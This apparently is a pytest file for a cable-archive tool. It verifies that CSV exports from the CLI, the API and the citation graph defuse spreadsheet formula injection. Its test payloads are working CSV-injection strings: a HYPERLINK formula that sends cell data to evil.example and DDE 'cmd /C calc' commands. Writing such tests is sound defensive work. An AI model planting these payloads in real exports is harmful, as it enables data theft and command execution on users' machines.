"""CSV exports never hand a spreadsheet a formula written by a cable's author.

Four crafted telegrams (the Paris sample, its subject, first paragraph and REF line
made to start with ``=``, ``+``, ``-`` or ``@``) are archived and exported as CSV by the
command line, the HTTP API and the citation graph: every cell that would start a
formula starts with ``'`` instead, every value is quoted (quotes inside doubled), and
JSON Lines keeps the text as written.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from cablekit.cli import cli
from cablekit.search.export import FORMULA_STARTS, _spreadsheet_safe, spreadsheet_safe
from cablekit.web import create_app

from .conftest import SAMPLES

PARIS = (SAMPLES / "09PARIS1007.txt").read_bytes().decode("latin-1")
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?q="&A1,"Open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C notepad'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0;=HYPERLINK(\"http://evil.example\")",
}
# Of each cable: how its subject, its first paragraph and its REF start. (A paragraph
# never starts with "-" once parsed: a dash after the portion mark is dropped.)
CABLES = [("=", "+", "-"), ("+", "@", "="), ("-", "=", "@"), ("@", "=", "+")]


def crafted(serial: int, subject: str, first: str, ref: str) -> str:
    """The Paris sample as 09PARIS<serial>, with a crafted subject, a first paragraph
    starting with ``first``, and one REF starting with ``ref``."""
    text = PARIS.replace("PARIS 001007", f"PARIS {serial:06d}").replace("#1007", f"#{serial}")
    for old, new in (
        ("for reasons 1.4 \r\n(B) AND (D).", "for reasons 1.4 (B) AND (D)."),
        (
            "SUBJECT: MIDDLE EAST: SARKOZY AND MUBARAK CONFER ON NEXT \r\nSTEPS",
            f"SUBJECT: {subject}",
        ),
        ("(C) Summary:", f"(C) {first} Summary:"),
        ("TAGS: PGOV PREL FR", f"TAGS: PGOV PREL FR\r\nREF: {ref} STATE 12345"),
    ):
        assert old in text
        text = text.replace(old, new)
    return text


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formulas")
    inputs = folder / "telegrams"
    inputs.mkdir()
    for n, starts in enumerate(CABLES):
        text = crafted(2001 + n, *(PAYLOADS[start] for start in starts))
        (inputs / f"crafted{n}.txt").write_bytes(text.encode("latin-1"))
    path = folder / "formulas.db"
    result = CliRunner().invoke(cli, ["ingest", "--db", str(path), "--no-progress", str(inputs)])
    assert result.stdout.startswith("4 ingested"), result.output
    return path


def exported(archive: Path, format_: str, *more: str) -> str:
    result = CliRunner().invoke(
        cli, ["export", "--db", str(archive), "--format", format_, "-o", "-", *more]
    )
    assert result.exit_code == 0, result.output
    return result.stdout


def assert_no_formula(text: str) -> list[dict[str, str]]:
    """The rows of the CSV ``text``, none of whose cells starts a formula."""
    header, *body = csv.reader(io.StringIO(text))
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_csv_export_neutralises_every_formula(archive: Path) -> None:
    text = exported(archive, "csv")
    assert text.startswith('"id","date"')  # every value quoted, the header too
    rows = assert_no_formula(text)
    assert len(rows) == 4
    for row in rows:
        subject, first, _ = CABLES[int(row["id"][-1]) - 1]
        assert row["subject"] == "'" + PAYLOADS[subject]
        assert row["text"].startswith("'" + PAYLOADS[first] + " Summary:")


def test_json_lines_keep_the_text_as_written(archive: Path) -> None:
    records = [json.loads(line) for line in exported(archive, "jsonl").splitlines()]
    subjects = sorted(r["subject"] for r in records)
    assert subjects == sorted(PAYLOADS.values())


def test_the_api_csv_export_neutralises_every_formula(archive: Path) -> None:
    response = TestClient(create_app(archive)).get("/api/v1/export", params={"format": "csv"})
    assert response.status_code == 200
    rows = assert_no_formula(response.text)
    assert sorted(r["subject"] for r in rows) == sorted("'" + p for p in PAYLOADS.values())


def test_the_graph_csv_neutralises_every_formula(archive: Path) -> None:
    result = CliRunner().invoke(cli, ["graph", "--db", str(archive), "--format", "csv", "-o", "-"])
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(result.stdout)
    texts = sorted(r for row in rows for r in row.values() if "STATE 12345" in r)
    assert texts == sorted(f"'{p} STATE 12345" for p in PAYLOADS.values())


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_start_a_spreadsheet_reads_as_a_formula_is_neutralised(start: str) -> None:
    # Tabs and carriage returns cannot start a parsed subject or paragraph: here the
    # rule itself, and the Arrow version the CSV export runs, which must agree with it.
    values = [f"{start}1+1", f"a{start}1", f"{start}", "plain", ""]
    assert spreadsheet_safe(values[0]) == f"'{start}1+1"
    assert spreadsheet_safe(values[1]) == f"a{start}1"
    arrow = _spreadsheet_safe(pa.array([*values, None], pa.string())).to_pylist()
    assert arrow == [*map(spreadsheet_safe, values), None]
